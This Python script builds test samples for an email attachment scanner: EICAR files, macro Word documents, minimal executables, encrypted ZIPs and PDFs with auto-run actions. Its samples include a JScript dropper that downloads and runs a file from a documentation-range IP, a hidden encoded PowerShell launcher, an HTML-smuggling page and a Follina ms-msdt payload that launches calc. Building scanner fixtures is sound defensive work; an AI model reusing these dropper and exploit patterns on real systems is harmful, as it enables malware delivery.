#!/usr/bin/env python3
"""samples.py - builds the ATSE test samples at test time, python3 stdlib only.

Usage: samples.py OUT_DIR            writes the sample files into OUT_DIR
       samples.py --eml OUT_DIR      also wraps each in a message OUT_DIR/NAME.eml

Nothing here is malicious: the "droppers" only name what real ones call,
the macro runs MsgBox, the executables return at once. EICAR is never stored
in the source tree: it is assembled here from its reversed text.
"""
import io
import os
import struct
import sys
import zipfile
import zlib
from email.message import EmailMessage

# The EICAR test file, reversed so that no scanner flags this script.
EICAR = ("*H+H$!ELIF-TSET-SURIVITNA-DRADNATS-RACIE$}7)CC7)^P(45XZP\\4[PA@%P!O5X"
         [::-1]).encode("ascii")


# ---------------------------------------------------------------- OLE2 --
# A compound file (MS-CFB v3): 512-byte sectors, a mini stream for streams
# under 4096 bytes. Enough for Word-like documents and vbaProject.bin.
ENDOFCHAIN, FREESECT, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def cfb(tree):
    """tree: {name: bytes | {name: ...}} -> the bytes of a compound file."""
    entries = []  # [name, type, data, children-ids]

    def add(name, node):
        idx = len(entries)
        if isinstance(node, dict):
            entries.append([name, 1, b"", []])
            for k in sorted(node, key=lambda s: (len(s), s.upper())):
                entries[idx][3].append(add(k, node[k]))
        else:
            entries.append([name, 2, bytes(node), []])
        return idx

    root = add("Root Entry", tree)
    entries[root][1] = 5

    mini, minifat, big = bytearray(), [], []
    starts = {}
    for i, (name, typ, data, _) in enumerate(entries):
        if typ != 2 or not data:
            continue
        if len(data) < 4096:
            first = len(mini) // 64
            n = (len(data) + 63) // 64
            for k in range(n):
                minifat.append(first + k + 1 if k < n - 1 else ENDOFCHAIN)
            mini += data + b"\0" * (n * 64 - len(data))
            starts[i] = first
        else:
            big.append(i)

    def sectors(data):
        return (len(data) + 511) // 512

    n_dir = (len(entries) * 128 + 511) // 512
    n_mini = sectors(mini)
    n_big = [sectors(entries[i][2]) for i in big]
    n_minifat = (len(minifat) * 4 + 511) // 512
    body = n_dir + n_mini + sum(n_big) + n_minifat
    n_fat = 1
    while n_fat * 128 < body + n_fat:
        n_fat += 1
    fat = [FREESECT] * (n_fat * 128)

    def chain(first, n):
        for k in range(n):
            fat[first + k] = first + k + 1 if k < n - 1 else ENDOFCHAIN
        return first

    pos = 0
    dir_first = chain(pos, n_dir); pos += n_dir
    mini_first = chain(pos, n_mini) if n_mini else ENDOFCHAIN; pos += n_mini
    for i, n in zip(big, n_big):
        starts[i] = chain(pos, n); pos += n
    minifat_first = chain(pos, n_minifat) if n_minifat else ENDOFCHAIN; pos += n_minifat
    fat_first = pos
    for k in range(n_fat):
        fat[pos + k] = FATSECT

    # Siblings as a right-leaning chain: readers only walk the tree.
    right = [NOSTREAM] * len(entries)
    child = [NOSTREAM] * len(entries)
    for i, e in enumerate(entries):
        kids = e[3]
        if kids:
            child[i] = kids[0]
            for a, b in zip(kids, kids[1:]):
                right[a] = b

    d = bytearray()
    for i, (name, typ, data, _) in enumerate(entries):
        uname = name.encode("utf-16-le") + b"\0\0"
        start, size = starts.get(i, ENDOFCHAIN), len(data)
        if typ == 5:
            start, size = mini_first, len(mini)
        d += struct.pack("<64sHBBIII16sIQQIQ", uname, len(uname), typ, 1,
                         NOSTREAM, right[i], child[i], b"\0" * 16, 0, 0, 0,
                         start, size)
    d += b"\0" * (n_dir * 512 - len(d))
    for k in range(len(entries), n_dir * 4):  # unused entries
        off = k * 128
        d[off + 68:off + 80] = struct.pack("<III", NOSTREAM, NOSTREAM, NOSTREAM)

    out = bytearray()
    difat = [fat_first + k for k in range(n_fat)] + [FREESECT] * (109 - n_fat)
    out += struct.pack("<8s16sHHHHH6sIIIIIIIII", bytes.fromhex("D0CF11E0A1B11AE1"),
                       b"\0" * 16, 0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6, 0, n_fat,
                       dir_first, 0, 4096, minifat_first, n_minifat,
                       ENDOFCHAIN, 0)
    out += struct.pack("<109I", *difat)
    out += d
    out += mini + b"\0" * (n_mini * 512 - len(mini))
    for i, n in zip(big, n_big):
        out += entries[i][2] + b"\0" * (n * 512 - len(entries[i][2]))
    mf = struct.pack("<%dI" % len(minifat), *minifat)
    out += mf + b"\xff" * (n_minifat * 512 - len(mf))
    out += struct.pack("<%dI" % len(fat), *fat)
    return bytes(out)


# ----------------------------------------------------------------- VBA --
def ovba_compress(data):
    """MS-OVBA compressed container, literal tokens only (valid, not small)."""
    out = bytearray(b"\x01")
    for c in range(0, len(data), 4096):
        chunk = data[c:c + 4096]
        body = bytearray()
        for t in range(0, len(chunk), 8):
            body += b"\0" + chunk[t:t + 8]
        out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body
    return bytes(out)


def rec(rid, payload):
    return struct.pack("<HI", rid, len(payload)) + payload


def vba_project(source):
    """The VBA storage of a project with one procedural module, Module1."""
    u16 = lambda s: s.encode("utf-16-le")
    d = bytearray()
    d += rec(0x01, struct.pack("<I", 1))          # PROJECTSYSKIND win32
    d += rec(0x02, struct.pack("<I", 0x409))      # PROJECTLCID
    d += rec(0x14, struct.pack("<I", 0x409))      # PROJECTLCIDINVOKE
    d += rec(0x03, struct.pack("<H", 1252))       # PROJECTCODEPAGE
    d += rec(0x04, b"VBAProject")                 # PROJECTNAME
    d += rec(0x05, b"") + rec(0x40, b"")          # PROJECTDOCSTRING
    d += rec(0x06, b"") + rec(0x3D, b"")          # PROJECTHELPFILEPATH
    d += rec(0x07, struct.pack("<I", 0))          # PROJECTHELPCONTEXT
    d += rec(0x08, struct.pack("<I", 0))          # PROJECTLIBFLAGS
    d += struct.pack("<HIIH", 0x09, 4, 1, 0)      # PROJECTVERSION
    d += rec(0x0F, struct.pack("<H", 1))          # PROJECTMODULES
    d += rec(0x13, struct.pack("<H", 0xFFFF))     # PROJECTCOOKIE
    d += rec(0x19, b"Module1") + rec(0x47, u16("Module1"))
    d += rec(0x1A, b"Module1") + rec(0x32, u16("Module1"))
    d += rec(0x1C, b"") + rec(0x48, b"")
    d += rec(0x31, struct.pack("<I", 0))          # MODULEOFFSET
    d += rec(0x1E, struct.pack("<I", 0))
    d += rec(0x2C, struct.pack("<H", 0xFFFF))
    d += rec(0x21, b"")                           # procedural module
    d += rec(0x2B, b"")                           # module terminator
    d += rec(0x10, b"")                           # dir terminator
    return {
        "_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        "dir": ovba_compress(bytes(d)),
        "Module1": ovba_compress(source.encode("cp1252")),
    }


MACRO = ('Attribute VB_Name = "Module1"\r\n'
         'Sub AutoOpen()\r\n'
         '    MsgBox "vigil ATSE test macro"\r\n'
         'End Sub\r\n')
PROJECT = (b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\n'
           b'Name="VBAProject"\r\n')


def word_doc(macros, extra=None):
    tree = {"WordDocument": b"\xec\xa5" + b"\0" * 1534,
            "1Table": b"\0" * 512}
    if macros:
        tree["Macros"] = {"VBA": vba_project(MACRO), "PROJECT": PROJECT}
    if extra:
        tree.update(extra)
    return cfb(tree)


def vba_bin():
    return cfb({"VBA": vba_project(MACRO), "PROJECT": PROJECT})


# --------------------------------------------------------------- OOXML --
def ooxml(macros):
    main_ct = ("application/vnd.ms-word.document.macroEnabled.main+xml" if macros
               else "application/vnd.openxmlformats-officedocument."
                    "wordprocessingml.document.main+xml")
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
          '<Default Extension="xml" ContentType="application/xml"/>'
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
          '<Override PartName="/word/document.xml" ContentType="%s"/></Types>' % main_ct)
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           '<w:body><w:p><w:r><w:t>Quarterly report</w:t></w:r></w:p></w:body></w:document>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", ct)
        z.writestr("_rels/.rels", rels)
        z.writestr("word/document.xml", doc)
        if macros:
            z.writestr("word/_rels/document.xml.rels",
                       '<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns='
                       '"http://schemas.openxmlformats.org/package/2006/relationships">'
                       '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/'
                       '2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
            z.writestr("word/vbaProject.bin", vba_bin())
    return buf.getvalue()


# ----------------------------------------------------------------- ZIP --
def zipped(name, data):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(name, data)
    return buf.getvalue()


def zipcrypto(name, data, password=b"infected"):
    """A ZIP whose one member is stored with traditional PKWARE encryption
    (zipfile reads it but cannot write it)."""
    crc = zlib.crc32(data)

    def upd(k, b):
        return zlib.crc32(bytes([b]), k ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(b):
        keys[0] = upd(keys[0], b)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = upd(keys[2], keys[1] >> 24)

    def enc(plain):
        out = bytearray()
        for p in plain:
            t = (keys[2] | 2) & 0xFFFF
            out.append(p ^ (((t * (t ^ 1)) >> 8) & 0xFF))
            update(p)
        return bytes(out)

    for b in password:
        update(b)
    header = bytes(range(7, 18)) + bytes([crc >> 24])
    body = enc(header) + enc(data)
    fname = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 1, 0, 0, 0x21, crc,
                        len(body), len(data), len(fname), 0) + fname
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 1, 0, 0,
                          0x21, crc, len(body), len(data), len(fname), 0, 0,
                          0, 0, 0o644 << 16, 0) + fname
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central),
                      len(local) + len(body), 0)
    return local + body + central + end


# ------------------------------------------------------------------ PE --
def pe(code=b"\xc3", broken=False, sections=(b".text",)):
    """A minimal PE32 console program; its first section holds the code
    (which returns at once), the others are empty."""
    dos = bytearray(b"MZ" + b"\0" * 62)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    dos += b"\0" * (0x80 - len(dos))
    n = len(sections)
    image = 0x1000 * (n + 1)
    opt = struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII",
                      0x10B, 14, 0, 0x200, 0, 0, 0x1000, 0x1000, 0x2000,
                      0x400000, 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0,
                      image, 0x200, 0, 3, 0, 0x100000, 0x1000, 0x100000,
                      0x1000, 0, 16) + b"\0" * 128
    fh = struct.pack("<HHIIIHH", 0x14C, n, 0, 0, 0, len(opt), 0x0102)
    if broken:  # an optional header said to be larger than the file
        fh = struct.pack("<HHIIIHH", 0x14C, 40, 0, 0, 0, 0xFFF0, 0x0102)
    sect = b""
    for k, name in enumerate(sections):
        raw = 0x200 if k == 0 else 0
        sect += struct.pack("<8sIIIIIIHHI", name, 0x1000, 0x1000 * (k + 1),
                            raw, 0x200 if raw else 0, 0, 0, 0, 0,
                            0xE0000060)
    hdr = dos + b"PE\0\0" + fh + opt + sect
    hdr += b"\0" * (0x200 - len(hdr))
    return bytes(hdr) + code + b"\0" * (0x200 - len(code))


# ----------------------------------------------------------- scripts --
HTML_SMUGGLE = b"""<html><body><script>
var b64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
var bin = atob(b64); var a = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) a[i] = bin.charCodeAt(i);
var blob = new Blob([a], {type: "application/octet-stream"});
var l = document.createElement("a"); l.href = URL.createObjectURL(blob);
l.download = "invoice_2024.exe"; document.body.appendChild(l); l.click();
</script></body></html>
"""
JS_DROPPER = b"""var sh = new ActiveXObject("WScript.Shell");
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "http://198.51.100.7/load.bin", false); x.send();
var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open();
s.Write(x.responseBody); s.SaveToFile(sh.ExpandEnvironmentStrings("%TEMP%") + "\\\\a.exe", 2);
sh.Run("%TEMP%\\\\a.exe", 0);
"""
VBS_DROPPER = (b'Set sh = CreateObject("WScript.Shell")\r\n'
               b'sh.Run "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", 0\r\n')
FOLLINA = b"""<!doctype html><html><body><script>
window.location.href = "ms-msdt:/id PCWDiagnostic /skip force /param \\"IT_RebrowseForFile=? IT_LaunchMethod=ContextMenu IT_BrowseForFile=$(Invoke-Expression($(Invoke-Expression('[System.Text.Encoding]'+[char]58+[char]58+'UTF8.GetString([System.Convert]'+[char]58+[char]58+'FromBase64String('+[char]34+'Y2FsYw=='+[char]34+'))'))))i/../../../../../../../../../../../../../../Windows/System32/mpsigstub.exe\\"";
</script>""" + b"<!-- " + b"padding " * 600 + b"-->\n</body></html>\n"


def pdf(action):
    objs = [b"<< /Type /Catalog /Pages 2 0 R%s >>" % action,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i, o)
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, x)
    return bytes(out)


def samples():
    ok = b"Hello,\r\nthe minutes of Tuesday's meeting are attached.\r\n"
    s = {
        "eicar.com": EICAR,
        "eicar.zip": zipped("eicar.com", EICAR),
        "eicar-zip.zip": zipped("inner.zip", zipped("eicar.com", EICAR)),
        "eicar-protected.zip": zipcrypto("eicar.com", EICAR),
        "plain-protected.zip": zipcrypto("minutes.txt", ok),
        "macro.doc": word_doc(True),
        "plain.doc": word_doc(False),
        "macro.docm": ooxml(True),
        "plain.docx": ooxml(False),
        "exe-in.doc": word_doc(False, {"\x01Ole10Native": pe()}),
        "tool.exe": pe(),
        "tool.zip": zipped("tool.exe", pe()),
        "broken.exe": pe(broken=True),
        "smuggle.html": HTML_SMUGGLE,
        "dropper.js": JS_DROPPER,
        "dropper.vbs": VBS_DROPPER,
        "follina.html": FOLLINA,
        "autojs.pdf": pdf(b" /OpenAction << /S /JavaScript /JS (app.alert\\('hi'\\);) >>"),
        "launch.pdf": pdf(b" /OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        "names-js.pdf": pdf(b" /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1;) >>] >> >>"),
        "packed.exe": pe(sections=(b"UPX0", b"UPX1")),
        "plain.pdf": pdf(b""),
        "minutes.txt": ok,
    }
    return s


def eml(name, data, filename=None):
    m = EmailMessage()
    m["From"] = "Alice Martin <alice@partner.example>"
    m["To"] = "bob@example.com"
    m["Subject"] = "ATSE sample %s" % name
    m["Message-ID"] = "<atse-%s@partner.example>" % name.replace(".", "-")
    m.set_content("Please find %s attached.\n" % name)
    m.add_attachment(data, maintype="application", subtype="octet-stream",
                     filename=filename or name)
    return bytes(m)


def main():
    args = sys.argv[1:]
    with_eml = "--eml" in args
    args = [a for a in args if a != "--eml"]
    if len(args) != 1:
        sys.exit(__doc__)
    out = args[0]
    os.makedirs(out, exist_ok=True)
    for name, data in samples().items():
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        if with_eml:
            with open(os.path.join(out, name + ".eml"), "wb") as f:
                f.write(eml(name, data))


if __name__ == "__main__":
    main()
